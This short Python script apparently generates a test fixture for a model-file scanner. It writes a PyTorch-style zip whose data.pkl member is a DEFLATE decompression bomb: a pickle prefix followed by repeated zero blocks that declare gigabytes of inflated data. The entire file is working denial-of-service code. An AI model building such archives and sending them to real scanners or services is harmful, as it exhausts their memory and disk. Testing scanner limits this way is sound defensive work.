# A torch-style zip whose archive/data.pkl is DEFLATE: a short pickle prefix, then GiBs of zeros built by
# repeating one independently-flushed deflate block (~1 KiB per MiB). The scanner inflates and walks
# the record up to its declared size (central directory usize, capped at Limits.MaxInflateBytes = 64 GiB).
import struct, sys, zlib
out = sys.argv[1]; gib = float(sys.argv[2]) if len(sys.argv) > 2 else 3.9
c = zlib.compressobj(9, zlib.DEFLATED, -15)
head = c.compress(b'\x80\x02}q\x00(') + c.flush(zlib.Z_FULL_FLUSH)    # EMPTY_DICT, BINPUT, MARK: valid prefix
c2 = zlib.compressobj(9, zlib.DEFLATED, -15)
blk = c2.compress(b'\0' * (1 << 20)) + c2.flush(zlib.Z_FULL_FLUSH)
n = int(gib * 1024)
stream = head + blk * n + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
usize = min(6 + n * (1 << 20), 0xFFFFFFFE)
members = [(b'archive/data.pkl', 8, stream, usize, 0), (b'archive/version', 0, b'3\n', 2, zlib.crc32(b'3\n'))]
body = b''; cd = b''
for name, meth, data, us, crc in members:
    lho = len(body)
    body += struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, meth, 0, 0, crc, len(data), us, len(name), 0) + name + data
    cd += struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, meth, 0, 0, crc, len(data), us, len(name), 0, 0, 0, 0, 0, lho) + name
eocd = struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, len(members), len(members), len(cd), len(body), 0)
open(out, 'wb').write(body + cd + eocd)
print(out, len(body + cd + eocd), 'bytes, declares', usize, 'inflated')
